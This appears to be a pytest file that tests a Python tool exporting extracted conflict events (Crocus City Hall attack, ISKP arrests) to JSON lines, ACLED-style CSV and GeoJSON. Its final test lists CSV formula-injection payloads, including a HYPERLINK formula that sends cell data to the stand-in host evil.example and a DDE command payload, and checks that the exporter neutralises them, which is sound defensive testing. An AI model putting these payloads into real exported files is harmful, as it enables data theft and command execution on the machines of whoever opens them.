"""Tests for sitrep.outputs: export() over the registry of formats; JSON lines, ACLED CSV and GeoJSON, parsed back."""

from __future__ import annotations

import csv
import io
import json

import pytest

from sitrep.errors import ConfigError
from sitrep.model import Document, Event
from sitrep.outputs import FORMATS, Format, export
from sitrep.outputs.acled_csv import ACLED_COLUMNS, CSV_COLUMNS, disorder_type

import docfactory as fx


def run(fmt: str, docs=None, **kw) -> tuple[int, str]:
    out = io.StringIO()
    n = export(fx.all_docs() if docs is None else docs, fmt, out, **kw)
    return n, out.getvalue()


def rows() -> dict[str, dict[str, str]]:
    _, text = run("csv")
    return {row["event_id_cnty"]: row for row in csv.DictReader(io.StringIO(text))}


# -- jsonl -----------------------------------------------------------------------------------------------------


def test_export_jsonl_one_contract_document_per_line():
    n, text = run("jsonl")
    lines = text.splitlines()
    assert n == len(lines) == 3
    for line, doc in zip(lines, fx.all_docs(), strict=True):
        assert json.loads(line) == doc.to_dict()
        assert Document.from_json(line).to_dict() == doc.to_dict()
    assert "Крокус" in text  # UTF-8 as is, not \u escapes


# -- csv -------------------------------------------------------------------------------------------------------


def test_export_csv_header_has_acled_columns_first_then_sitrep_extras():
    n, text = run("csv")
    header = next(csv.reader(io.StringIO(text)))
    assert header == list(CSV_COLUMNS)
    assert header[: len(ACLED_COLUMNS)] == list(ACLED_COLUMNS)
    assert header[:8] == ["event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
                          "sub_event_type", "actor1"]  # fmt: skip
    for extra in ("plover_type", "plover_mode", "modality", "attributed_to", "confidence", "doc_id", "evidence_start",
                  "evidence_end", "injuries", "arrested", "claimed_by"):  # fmt: skip
        assert header.index(extra) > header.index("timestamp")
    assert n == sum(len(d.events) for d in fx.all_docs()) == 6


@pytest.mark.parametrize(
    ("row_id", "expected"),
    [
        (
            "wire-crocus#ev1",
            {"event_date": "2024-03-22", "year": "2024", "time_precision": "1", "disorder_type": "Political violence",
             "event_type": "Violence against civilians", "sub_event_type": "Attack", "actor1": "gunmen",
             "actor2": "concert-goers", "location": "Crocus City Hall", "admin1": "Moscow Oblast", "iso": "643",
             "latitude": "55.8258", "longitude": "37.3899", "geo_precision": "1", "source": "Example Wire",
             "fatalities": "133", "civilian_targeting": "Civilian targeting", "plover_type": "ASSAULT",
             "plover_mode": "firearms", "modality": "reported", "attributed_to": "Russian investigators",
             "injuries": "140", "claimed_by": "ISKP", "confidence": "0.9"},
        ),
        (
            "analysis-iskp#ev1",
            {"event_date": "2024-03-01", "time_precision": "3", "actor1": "ISKP", "assoc_actor_1": "", "inter1": "2",
             "country": "Russia", "fatalities": "140", "fatalities_low": "140", "date_end": "2024-03-31",
             "date_precision": "month", "claimed_by": "ISKP"},
        ),
        (
            "analysis-iskp#ev2",
            {"disorder_type": "Strategic developments", "sub_event_type": "Arrests", "actor1": "Pakistani police",
             "inter1": "1", "actor2": "ISKP", "inter2": "2", "interaction": "12", "country": "Pakistan",
             "location": "Quetta", "fatalities": "0", "arrested": "3"},
        ),
        (
            "wire-crocus#ev2",
            {"location": "Bryansk region", "geo_precision": "3", "admin1": "Bryansk Oblast", "arrested": "11"},
        ),
        (
            "ru-crocus#ev2",
            {"event_date": "", "year": "", "time_precision": "", "location": "", "latitude": "", "country": "",
             "fatalities": "0", "arrested": "11", "actor1": "Federal Security Service", "doc_id": "ru-crocus",
             "event_id": "ev2"},
        ),
    ],
)  # fmt: skip
def test_export_csv_rows_carry_acled_values(row_id, expected):
    row = rows()[row_id]
    assert {k: row[k] for k in expected} == expected


@pytest.mark.parametrize("row_id", ["analysis-iskp#ev1", "wire-crocus#ev2", "ru-crocus#ev2"])
def test_export_csv_notes_quote_the_evidence(row_id):
    row = rows()[row_id]
    doc = {d.id: d for d in fx.all_docs()}[row["doc_id"]]
    quoted = doc.text[int(row["evidence_start"]) : int(row["evidence_end"])]
    assert row["notes"] == " ".join(quoted.split())


def test_export_csv_keeps_cyrillic():
    row = rows()["ru-crocus#ev1"]
    assert row["notes"].startswith("Число погибших")
    assert row["attributed_to"] == "Министерство здравоохранения Московской области"


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (Event("x", "ASSAULT", acled_event_type="Battles"), "Political violence"),
        (Event("x", "ASSAULT", acled_event_type="Explosions/Remote violence"), "Political violence"),
        (Event("x", "PROTEST", acled_event_type="Protests"), "Demonstrations"),
        (Event("x", "PROTEST", acled_event_type="Riots", acled_sub_event_type="Mob violence"), "Political violence"),
        (
            Event(
                "x", "COERCE", acled_event_type="Protests", acled_sub_event_type="Excessive force against protesters"
            ),
            "Political violence; Demonstrations",
        ),
        (Event("x", "COERCE", mode="arrest", acled_event_type="Strategic developments"), "Strategic developments"),
        (Event("x", "ASSAULT"), "Political violence"),
        (Event("x", "PROTEST"), "Demonstrations"),
        (Event("x", "COERCE", mode="arrest"), "Strategic developments"),
        (Event("x", "AGREE"), "Strategic developments"),
    ],
)
def test_disorder_type_from_acled_or_plover(event, expected):
    assert disorder_type(event) == expected


# -- geojson ---------------------------------------------------------------------------------------------------


def test_export_geojson_is_a_feature_collection_of_located_events():
    n, text = run("geojson")
    data = json.loads(text)
    assert data["type"] == "FeatureCollection"
    features = data["features"]
    assert n == len(features) == 5  # every event but the Russian arrest, which has no location
    for feature in features:
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert feature["properties"]["kind"] == "event"
    crocus = [f for f in features if f["properties"]["place"] == "Crocus City Hall"]
    assert {f["properties"]["doc_id"] for f in crocus} == {"analysis-iskp", "wire-crocus", "ru-crocus"}
    assert crocus[0]["geometry"]["coordinates"] == [37.3899, 55.8258]  # longitude first
    wire = next(f["properties"] for f in crocus if f["properties"]["doc_id"] == "wire-crocus")
    assert wire["actors"] == ["gunmen"]
    assert wire["claimed_by"] == ["ISKP"]
    assert wire["fatalities"] == 133
    assert wire["type"] == "ASSAULT"
    assert wire["date_start"] == "2024-03-22"


def test_export_geojson_places_flag_adds_one_feature_per_place():
    n, text = run("geojson", places=True)
    features = json.loads(text)["features"]
    places = [f["properties"] for f in features if f["properties"]["kind"] == "place"]
    assert n == len(features) == 5 + len(places)
    names = [p["name"] for p in places]
    assert len(names) == len(set(names))  # merged across documents
    crocus = next(p for p in places if p["name"] == "Crocus City Hall")
    assert crocus["doc_ids"] == ["analysis-iskp", "wire-crocus", "ru-crocus"]
    assert crocus["mentions"] == 4
    assert {"Quetta", "Balochistan", "Russia", "Bryansk region", "Krasnogorsk"} <= set(names)


# -- edge cases ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "geojson"])
def test_export_empty_input(fmt):
    n, text = run(fmt, docs=[])
    assert n == 0
    if fmt == "geojson":
        assert json.loads(text) == {"type": "FeatureCollection", "features": []}
    elif fmt == "csv":
        assert text.splitlines() == [",".join(CSV_COLUMNS)]
    else:
        assert text == ""


def test_export_document_without_events():
    n, text = run("csv", docs=[fx.empty()])
    assert n == 0
    n, text = run("geojson", docs=[fx.empty()], places=True)
    assert n == 0 and json.loads(text)["features"] == []


def test_export_unknown_format_is_a_config_error_naming_the_known_ones():
    with pytest.raises(ConfigError, match="'xlsx'; choose one of jsonl, csv, geojson"):
        export([], "xlsx", io.StringIO())


# -- the registry ----------------------------------------------------------------------------------------------


def test_export_registry_has_a_writer_and_one_line_for_every_format():
    assert list(FORMATS) == ["jsonl", "csv", "geojson", "stix", "misp", "incidents"]
    for fmt in FORMATS.values():
        assert callable(fmt.write) and fmt.description and "\n" not in fmt.description


def test_export_a_format_is_one_writer_and_one_registry_line(tmp_path, monkeypatch, capsys):
    from sitrep.cli import main
    from sitrep.store import Store

    def ids(docs, out, *, places=False):
        lines = [doc.id + "\n" for doc in docs]
        out.writelines(lines)
        return len(lines)

    monkeypatch.setitem(FORMATS, "ids", Format(ids, "one document id per line"))
    assert run("ids") == (3, "analysis-iskp\nwire-crocus\nru-crocus\n")
    with Store(tmp_path / "s.db") as store:
        store.add_many(fx.all_docs())
    assert main(["export", "--format", "ids", "--db", str(tmp_path / "s.db")]) == 0
    assert capsys.readouterr().out.split() == ["wire-crocus", "ru-crocus", "analysis-iskp"]
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    assert "ids: one document id per line" in " ".join(capsys.readouterr().out.split())  # help text is wrapped


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?q="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "＝1+1"],
)  # fmt: skip
def test_export_csv_formula_like_cells_are_written_as_text(hostile):
    text = f"{hostile} Militants attacked a police post in Quetta."
    doc = Document(id=hostile, text=text, events=[Event("v1", "ASSAULT", evidence=[fx.at(text, text)])])
    out = io.StringIO()
    export([doc], "csv", out)
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row["notes"].startswith("'") and row["doc_id"] == "'" + hostile.replace("\r", "\n")
    assert row["notes"].endswith("Militants attacked a police post in Quetta.")
    assert row["evidence_start"] == "0" and row["fatalities"] == "0"  # numbers untouched
    assert not any(v[:1] in "=+-@\t\r" for v in row.values() if v)
